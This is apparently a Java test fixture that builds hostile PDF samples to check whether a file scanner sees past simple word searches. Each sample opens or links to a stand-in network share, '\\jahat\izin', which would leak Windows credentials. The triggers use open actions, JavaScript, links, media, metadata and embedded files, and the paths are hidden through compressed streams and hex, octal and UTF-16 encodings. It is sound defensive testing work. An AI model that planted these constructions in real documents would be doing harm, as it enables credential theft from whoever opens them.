package id.layakanak.file;

import static id.layakanak.file.Samples.ascii;

import java.util.LinkedHashMap;
import java.util.Map;

/** PDFs that do more than show a paper, in ways a search for words overlooks. Each has {@link #BAIT} where the harm is. */
final class HostilePapers {

    /** An address of the office network, which a Windows PC would tell its password to. */
    static final String BAIT = "\\\\jahat\\izin";

    private static final String TO_BAIT = "(\\\\\\\\jahat\\\\izin)";
    private static final String PROGRAM = "<</S /JavaScript /JS " + TO_BAIT + ">>";
    private static final String OPENS = "/OpenAction 6 0 R";

    private HostilePapers() {}

    static Map<String, byte[]> all() {
        var all = new LinkedHashMap<String, byte[]>();
        var filler = "x".repeat(2_300);

        all.put(
                "program in a packed part, told how to unpack before what it is",
                new PdfMaker(OPENS)
                        .packed("/Filter /FlateDecode /Note (an obj) /Type /ObjStm %s", PROGRAM)
                        .made());
        all.put(
                "program in a packed part with much between",
                new PdfMaker(OPENS)
                        .packed("/Filter /FlateDecode /Note (" + filler + ") /Type /ObjStm %s", PROGRAM)
                        .made());
        all.put(
                "program in a packed part with a comment between",
                new PdfMaker(OPENS)
                        .packed("/Filter /FlateDecode %% an obj\n /Type /ObjStm %s", PROGRAM)
                        .made());
        all.put(
                "program in a packed part that does not say so",
                new PdfMaker(OPENS).packed("/Filter /FlateDecode %s", PROGRAM).made());
        all.put("opens a file of the network", opening("<</S /URI /URI " + TO_BAIT + ">>"));
        all.put("opens a page of the web", opening("<</S /URI /URI (https://example.org/) /Note " + TO_BAIT + ">>"));
        all.put("opens another paper", opening("<</S /GoToR /D [0 /Fit] /F " + TO_BAIT + ">>"));
        all.put("plays", opening("<</S /Rendition /R <</S /MR /C <</S /MCD /D <</F " + TO_BAIT + ">>>>>>>>"));
        all.put("plays a film", opening("<</S /Movie /T " + TO_BAIT + ">>"));
        all.put("sounds", opening("<</S /Sound /Note " + TO_BAIT + " /Sound 4 0 R>>"));
        all.put(
                "goes to a page, and on to a file",
                opening("<</S /GoTo /D [3 0 R /Fit] /Next <</S /URI /URI " + TO_BAIT + ">>>>"));
        all.put(
                "does it by the number of an object",
                new PdfMaker("/OpenAction 5 0 R")
                        .object("<</S /GoTo /D [3 0 R /Fit] /Next 6 0 R>>")
                        .object("<</S /URI /URI " + TO_BAIT + ">>")
                        .made());
        all.put(
                "does it in a later version of the object",
                new PdfMaker("/OpenAction 5 0 R")
                        .object("[3 0 R /Fit]")
                        .raw("5 0 obj\n<</S /URI /URI (https://example.org/) /Note " + TO_BAIT + ">>\nendobj\n")
                        .at(5, "5 0 obj\n<<")
                        .made());
        all.put(
                "does it within a picture",
                new PdfMaker("/OpenAction 5 0 R")
                        .object("[3 0 R /Fit]").stream(
                                        "",
                                        ascii("5 0 obj <</S /URI /URI (https://example.org/) /Note " + TO_BAIT
                                                + ">> endobj"))
                                .at(5, "5 0 obj <<")
                                .made());
        all.put(
                "hides a number behind a comment",
                new PdfMaker("/OpenAction 5 0 R")
                        .object("[3 0 R /Fit]")
                        .raw("5 % five\n0 obj\n<</S /URI /URI (https://example.org/) /Note " + TO_BAIT + ">>\nendobj\n")
                        .at(5, "5 % five")
                        .made());
        all.put(
                "does it when the page is shown",
                new PdfMaker("", "/AA <</O <</S /URI /URI " + TO_BAIT + ">>>>").made());
        all.put("leads to a file by a click", linking(TO_BAIT));
        all.put("leads to a file, written in numbers", linking("<5c5c6A616861745c697a696e>"));
        all.put("leads to a file, written in octal", linking("(\\134\\134jaha\\164\\134izin)"));
        all.put(
                "leads to a file, written in sixteen bits",
                linking("<FEFF005c005c006A0061006800610074005c0069007a0069006e>"));
        all.put("leads to a file of the PC", linking("(file:///c:/jahat) /Note " + TO_BAIT));
        all.put(
                "leads to a text that stands elsewhere",
                new PdfMaker("", link("<</S /URI /URI 5 0 R>>")).object(TO_BAIT).made());
        all.put(
                "leads to a file in a packed part",
                new PdfMaker("", link("6 0 R"))
                        .packed("/Type /ObjStm /Filter /FlateDecode %s", "<</S /URI /URI " + TO_BAIT + ">>")
                        .made());
        all.put(
                "fetches a page of its own from a file",
                new PdfMaker("/Metadata 5 0 R")
                        .stream("/F " + TO_BAIT, ascii("x")).made());
        all.put(
                "fetches it from a file named elsewhere",
                new PdfMaker("/Metadata 5 0 R")
                        .stream("/F 6 0 R", ascii("x")).object(TO_BAIT).made());
        all.put(
                "brings a file without saying so",
                new PdfMaker("/AF [<</UF " + TO_BAIT + " /EF <</F 5 0 R>>>>]")
                        .stream("", ascii("MZ")).made());
        return all;
    }

    private static byte[] opening(String action) {
        return new PdfMaker("/OpenAction " + action).made();
    }

    private static byte[] linking(String address) {
        return new PdfMaker("", link("<</S /URI /URI " + address + ">>")).made();
    }

    private static String link(String action) {
        return "/Annots [<</Type /Annot /Subtype /Link /Rect [72 700 200 740] /A " + action + ">>]";
    }
}
